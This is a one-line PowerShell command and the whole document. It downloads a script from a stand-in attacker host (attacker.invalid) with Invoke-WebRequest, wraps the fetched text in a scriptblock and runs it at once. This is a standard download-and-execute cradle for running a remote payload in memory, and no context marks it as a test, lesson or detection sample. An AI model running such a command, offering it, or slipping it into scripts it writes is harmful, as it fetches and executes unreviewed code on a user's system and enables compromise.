[scriptblock]::Create((iwr https://attacker.invalid/p.ps1).Content).Invoke()
